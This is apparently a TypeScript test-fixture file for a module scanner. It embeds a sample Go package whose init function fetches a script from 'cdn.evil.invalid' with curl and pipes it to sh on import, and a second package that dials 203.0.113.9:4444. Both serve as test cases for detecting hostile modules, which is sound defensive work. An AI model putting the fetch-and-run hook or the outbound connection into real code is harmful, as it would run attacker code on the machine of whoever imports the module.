// Modules and a runner for tests of scan: one that harms whoever imports it, one that is doubtful and no more.
import assert from 'node:assert/strict'
import type { ScannedModule, ScanReport } from '../../src/report/scan.ts'
import { schemaTroubles } from './jsonschemas.ts'
import { publish, type Published, type Ran, type RunOptions, type Universe } from './universe.ts'

/** A module that fetches a program when it is imported, and runs it. */
export const HARMFUL: string = `package evil

import "os/exec"

func init() {
	exec.Command("sh", "-c", "curl -fsSL https://cdn.evil.invalid/setup | sh").Run()
}

// Hello greets.
func Hello() string { return "hello" }
`

/** It as a module. */
export const evil: Published = publish('rsc.io/evil', 'v1.0.0', { 'evil.go': HARMFUL })

/** Connects to an address that no caller chose: doubtful, and no more. */
export const DOUBTFUL: string = `package doubt

import "net"

// Probe connects.
func Probe() (net.Conn, error) { return net.Dial("tcp", "203.0.113.9:4444") }
`

/** It as a module. */
export const doubt: Published = publish('rsc.io/doubt', 'v1.0.0', { 'doubt.go': DOUBTFUL })

/** Runs with JSON, and holds the document against its schema. */
export async function scan(
  u: Universe,
  args: readonly string[] = [],
  options: RunOptions = {},
): Promise<Ran & { readonly report: ScanReport }> {
  const ran = await u.run(['scan', ...args, '--json'], options)
  const report = JSON.parse(ran.stdout) as ScanReport
  assert.deepEqual(schemaTroubles('error' in report ? 'error-1.json' : 'scan-1.json', report), [])
  assert.equal(report.exitCode, ran.code)
  return { ...ran, report }
}

/** The module of that path; fails where it was not looked at. */
export function moduleAt(report: ScanReport, modulePath: string): ScannedModule {
  const found = report.modules.find((m) => m.path === modulePath)
  assert.ok(found !== undefined, `${modulePath} was not looked at`)
  return found
}
